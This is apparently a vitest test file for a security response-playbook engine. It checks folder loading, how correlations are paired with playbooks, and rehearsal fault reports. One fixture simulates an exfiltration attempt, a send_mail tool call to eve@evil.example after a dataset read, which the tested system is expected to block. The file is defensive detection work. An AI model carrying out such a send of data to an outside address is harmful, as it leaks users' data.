import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { withCorrelations } from '../../../services/respond/playbook/files/beside.js';
import { readSources } from '../../../services/respond/playbook/files/read.js';
import { compilePlaybooks } from '../../../services/respond/playbook/load.js';
import { testPlaybook } from '../../../services/respond/playbook/rehearsal.js';

const folder = mkdtempSync(join(tmpdir(), 'stepdown-folder-'));
afterAll(() => rmSync(folder, { recursive: true }));
const write = (name: string, text: string) => writeFileSync(join(folder, name), text);

describe('a folder of playbooks', () => {
  it('may hold the configuration, overrides and a baseline policy; whatever else is there is judged', () => {
    write('stepdown.yaml', 'respond: { playbooks: [.] }\n');
    write('overrides.yaml', 'apiVersion: stepdown/v1\nkind: Overrides\nplaybooks: {}\n');
    write('baseline.yaml', 'apiVersion: stepdown/v1\nkind: BaselinePolicy\n');
    write('forgot-its-kind.yaml', 'apiVersion: stepdown/v1\nid: x\n');
    const names = (paths: string[]) => readSources(paths).sources.map(({ file }) => file.slice(folder.length + 1));
    expect(names([folder])).toEqual(['forgot-its-kind.yaml']);
    expect(names([join(folder, 'overrides.yaml')])).toEqual(['overrides.yaml']);
  });
});

const CORRELATION = `apiVersion: stepdown/v1
kind: Correlation
id: reads-then-sends
title: Reads, then sends
version: 1
emits: correlation.reads-then-sends
by: [session]
within: 1h
sequence: [{ finding: novelty.dataset }, { finding: novelty.destination }]
severity: high
`;
const playbook = (expect: string) => `apiVersion: stepdown/v1
kind: Playbook
id: hold
title: Hold what leaves
version: 1
trigger: { finding: correlation.reads-then-sends, by: session }
target: session
contract:
  - egress.allow: { domains: [contoso.example] }
hours: [{ zone: Europe/Zurich, days: [mon, tue, wed, thu, fri, sat, sun], from: '20:00', to: '06:00' }]
revert: { until: sessionEnd, max: 12h }
incident: { severity: high }
tests:
  - name: one
    begins: ${expect.includes('why') ? '2031-03-04T12:00:00Z' : '2031-03-04T22:00:00Z'}
    timeline:
      - finding: { type: novelty.dataset }
      - finding: { type: novelty.destination }
      - call: { tool: send_mail, arguments: { to: eve@evil.example } }
        expect: ${expect}
`;
function faults(expectation: string) {
  const { playbooks, correlations } = compilePlaybooks(
    [
      { file: 'c.yaml', text: CORRELATION },
      { file: 'p.yaml', text: playbook(expectation) },
    ],
    undefined,
    {},
  );
  const [hold] = playbooks;
  return testPlaybook(hold!, hold!.tests[0]!, correlations).faults;
}

describe('a playbook given as a file of its own', () => {
  const inFolder = (name: string) => join(folder, 'alone', name);
  it('has the correlations beside it whose finding it listens to, and no others', () => {
    mkdirSync(join(folder, 'alone'));
    const files = {
      'c.yaml': CORRELATION,
      'other.yaml': CORRELATION.replaceAll('reads-then-sends', 'something-else'),
      'p.yaml': playbook('{ contractions: 1 }'),
      'any.yaml': playbook('{ contractions: 1 }').replace('correlation.reads-then-sends', "'correlation.*'"),
      'none.yaml': playbook('{ contractions: 1 }').replace('correlation.reads-then-sends', 'novelty.dataset'),
    };
    for (const [name, text] of Object.entries(files)) writeFileSync(inFolder(name), text);
    const given = (...names: string[]) => withCorrelations(names.map(inFolder)).map((file) => file.split('/').pop());
    expect(given('p.yaml')).toEqual(['p.yaml', 'c.yaml']);
    expect(given('any.yaml')).toEqual(['any.yaml', 'c.yaml', 'other.yaml']);
    expect(given('none.yaml')).toEqual(['none.yaml']);
    expect(given('p.yaml', 'c.yaml')).toEqual(['p.yaml', 'c.yaml']);
    expect(withCorrelations([join(folder, 'alone')])).toHaveLength(1);
    expect(withCorrelations([join(folder, 'missing.yaml')])).toHaveLength(1);
  });
});

describe('what a test says of a playbook on a correlation', () => {
  it('why it did nothing', () => {
    expect(faults('{ contractions: 0, why: hours }')).toEqual([]);
  });
  it('why a call was answered otherwise than expected', () => {
    expect(faults('{ answer: allow }')).toEqual([
      {
        step: 2,
        expected: 'answer: allow',
        got: expect.stringMatching(/^answer: block \(.*eve@evil\.example/) as string,
      },
    ]);
  });
});
